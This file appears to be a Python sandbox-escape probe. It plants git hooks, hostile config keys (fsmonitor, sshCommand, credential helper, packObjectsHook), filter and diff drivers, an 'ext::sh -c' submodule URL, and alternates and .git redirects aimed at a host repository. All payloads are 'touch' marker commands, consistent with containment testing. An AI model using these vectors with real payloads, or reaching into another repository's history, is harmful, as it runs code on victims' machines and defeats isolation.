"""Poisons everything that git reads: hooks, configuration, attributes, submodules, alternates, `.git` itself."""

import os
import shutil
import subprocess

from probing import TARGETS, probe, say

MARKS, REPO = TARGETS["marks"], TARGETS["repo"]
HOOKS = ("post-checkout", "post-commit", "pre-commit", "post-merge", "reference-transaction", "post-index-change", "fsmonitor-watchman",
         "pre-push", "update", "post-update", "post-receive", "pre-auto-gc", "post-rewrite", "sendemail-validate")  # fmt: skip


def touch(name):
    return f"touch {MARKS}/{name}"


def hooks(folder):
    os.makedirs(folder, exist_ok=True)
    for name in HOOKS:
        with open(f"{folder}/{name}", "w") as file:
            file.write("#!/bin/sh\n{}\n".format(touch("hook-" + name)))
        os.chmod(f"{folder}/{name}", 0o755)


def config(path):
    with open(path, "a") as file:
        file.write(
            "[core]\n\tfsmonitor = {}\n\thooksPath = hooks\n\tsshCommand = {}\n\tpager = {}\n\teditor = {}\n\tworktree = {}\n".format(
                touch("fsmonitor"), touch("ssh"), touch("pager"), touch("editor"), REPO
            )
        )
        file.write(
            '[filter "own"]\n\tclean = {}\n\tsmudge = {}\n\tprocess = {}\n'.format(
                touch("clean"), touch("smudge"), touch("process")
            )
        )
        file.write(
            '[diff "own"]\n\ttextconv = {}\n\tcommand = {}\n[diff]\n\texternal = {}\n'.format(
                touch("textconv"), touch("command"), touch("external")
            )
        )
        file.write(
            '[merge "own"]\n\tdriver = {}\n[credential]\n\thelper = !{}\n'.format(touch("merge"), touch("credential"))
        )
        file.write(
            "[gpg]\n\tprogram = {}\n[uploadpack]\n\tpackObjectsHook = {}\n[alias]\n\tstatus = !{}\n".format(
                touch("gpg"), touch("pack"), touch("alias")
            )
        )


hooks(".git/hooks")
hooks("hooks")
config(".git/config")
with open(".gitattributes", "w") as file:
    file.write("* filter=own diff=own merge=own text eol=crlf ident export-subst\n")
with open(".gitmodules", "w") as file:
    file.write(
        '[submodule "s"]\n\tpath = sub\n\turl = ext::sh -c {}\n\tupdate = !{}\n'.format(
            touch("submodule-url"), touch("submodule-update")
        )
    )
with open(".gitconfig", "w") as file:
    file.write("[core]\n\tfsmonitor = {}\n".format(touch("gitconfig")))

# A repository within, which a guard of the top folder alone would not see.
os.makedirs("sub/deeper")
subprocess.run(["git", "init", "-q", "sub/deeper"], check=False)
hooks("sub/deeper/.git/hooks")
config("sub/deeper/.git/config")
with open("sub/.git", "w") as file:
    file.write(f"gitdir: {REPO}/.git\n")

# What else lies in the store of the host.
with open(".git/objects/info-alternates", "w") as file:
    file.write(f"{REPO}/.git/objects\n")
os.makedirs(".git/objects/info", exist_ok=True)
shutil.move(".git/objects/info-alternates", ".git/objects/info/alternates")
for name in ("future", "main~1", TARGETS["future"]):
    probe("history " + name, lambda name=name: subprocess.run(
        ["git", "show", name + ":calc.py"], capture_output=True, text=True, check=True).stdout)  # fmt: skip
say("commits", subprocess.run(["git", "log", "--all", "--oneline"], capture_output=True, text=True, check=False).stdout)

# At last `.git` is a file that leads to the host.
shutil.rmtree(".git", ignore_errors=True)
with open(".git", "w") as file:
    file.write(f"gitdir: {REPO}/.git\n")
with open("value.txt", "w") as file:
    file.write("right\n")
